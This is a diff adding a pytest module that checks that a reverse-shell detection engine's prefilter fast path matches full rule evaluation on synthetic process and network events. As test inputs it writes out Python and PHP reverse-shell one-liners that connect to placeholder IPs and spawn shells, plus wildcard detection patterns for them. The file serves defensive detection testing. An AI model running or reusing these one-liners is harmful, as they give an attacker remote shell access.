@@ -1,0 +1,96 @@
+"""The line-rate levers (issue 23) change the cost, never the output: the fast path on the peers'
+corpus (../shared/peers/gen_corpus.py, the issue's benchmark corpus, 3,000 events) and on lines made
+to test a wildcard's ordered-parts anchor equals the reference that decodes every line and evaluates
+every rule (BlockMatcher(prefilter=False))."""
+
+from __future__ import annotations
+
+import random
+import re
+import subprocess
+import sys
+from pathlib import Path
+
+import msgspec
+import pytest
+
+from conftest import PATTERNS, ROOT
+from shellsieve.cli import build
+from shellsieve.compile.anchors import predicate_literals
+from shellsieve.compile.ruleset import Ruleset
+from shellsieve.model.expr import Op, Predicate
+from test_diff_fastpath import assert_identical, spellings
+
+GEN_CORPUS = ROOT.parent / "shared" / "peers" / "gen_corpus.py"
+
+
+@pytest.fixture(scope="module")
+def ruleset() -> Ruleset:
+    return build([PATTERNS])[1]
+
+
+def _events(i: int, args: list[str], parent: str) -> list[dict]:
+    """A process start and its outbound connection: the reverse-shell sequence's two steps."""
+    name, host, entity = args[0], {"id": "h1", "os": {"type": "linux"}}, f"{parent}-{i}"
+    parent = parent.partition("-")[0]
+    start = {"@timestamp": f"2026-11-22T08:00:{i:02d}.000Z",
+             "event": {"kind": "event", "category": ["process"], "type": ["start"], "action": "exec"},
+             "host": host,
+             "process": {"name": name, "executable": f"/usr/bin/{name}", "command_line": " ".join(args),
+                         "args": args, "args_count": len(args), "entity_id": entity,
+                         "parent": {"name": parent, "executable": f"/usr/bin/{parent}"}},
+             "user": {"name": "root", "id": "0"}}
+    connect = {"@timestamp": f"2026-11-22T08:00:{i:02d}.500Z",
+               "event": {"kind": "event", "category": ["network"], "type": ["start"],
+                         "action": "connection_attempted"},
+               "host": host, "process": {"name": name, "entity_id": entity},
+               "destination": {"ip": "203.0.113.7", "port": 4444}}
+    return [start, connect]
+
+
+def test_ordered_parts_anchor_is_one_regex() -> None:
+    lits = predicate_literals(Predicate("process.args", Op.WILDCARD, ("*import*pty*spawn*",), False))
+    assert lits is not None and len(lits) == 1 and lits[0].ordered
+    rx = re.compile(lits[0].regex, re.I)
+    assert rx.search(b'"args":["-c","import os,pty;pty.spawn(\\"sh\\")"]')
+    assert rx.search(b'"x":"IMPORT\\\\PTY\\"SPAWN"')  # escapes between the parts, any case
+    assert not rx.search(b'"args":["-c","import sys; print(sys.version)"]')  # the best part alone
+    assert not rx.search(b'"args":["spawn","pty","import"]')  # out of order
+    # one literal part keeps the best-part anchor
+    one = predicate_literals(Predicate("process.args", Op.WILDCARD, ("*socket*",), False))
+    assert one is not None and not one[0].regex and one[0].text == b"socket"
+
+
+def test_wildcard_parts_fast_path_equals_reference(ruleset: Ruleset) -> None:
+    """Values where the parts lie apart, escaped, in another case, or where they would only match
+    across two strings: the reverse-shell sequence's first step reads `*import*pty*spawn*`."""
+    rng = random.Random(23)
+    argv = [["python3", "-c", 'import os,pty,socket;s=socket.socket();s.connect(("1.2.3.4",1));pty.spawn("sh")'],
+            ["python3", "-c", "IMPORT\tPTY\\\"SPAWN"],
+            ["python3", "-c", "importptyspawn"],
+            ["python3", "-c", "import é 𝔘 pty \u2028 spawn"],
+            ["python3", "-c", "import sys", "pty", "spawn"],
+            ["python3", "-c", "import subprocess;subprocess.call(['sh'])"],
+            ["python3", "-c", "import sys; print(sys.version)"],
+            ["php", "-r", '$s=fsockopen("10.1.1.1",80);exec("/bin/sh -i");'],
+            ["php", "-r", '$s=fsockopen("example.com",80); fclose($s);']]
+    lines = []
+    for i, a in enumerate(argv):
+        for parent in ("bash", "nginx"):
+            for k in range(5):  # each spelling its own process: another cannot complete its sequence
+                start, connect = _events(i, a, f"{parent}-{k}")
+                lines += [spellings(start, rng)[k], msgspec.json.encode(connect)]
+    alerts, _ = assert_identical(ruleset, lines)
+    assert alerts >= 4
+
+
+@pytest.mark.skipif(not GEN_CORPUS.is_file(), reason="../shared/peers is not checked out")
+def test_peers_corpus_fast_path_equals_reference(ruleset: Ruleset, tmp_path: Path) -> None:
+    out = tmp_path / "corpus.ndjson"
+    subprocess.run([sys.executable, str(GEN_CORPUS), str(out), "3000", "7"], check=True, capture_output=True)
+    lines = out.read_bytes().splitlines()
+    # the bench's shapes too: command lines written with `\u002f` escapes
+    lines += [line.replace(b"/", b"\\u002f") for line in lines[:300]]
+    alerts, decoded = assert_identical(ruleset, lines)
+    assert alerts >= 10
+    assert decoded < len(lines) // 3  # the anchors do skip most lines
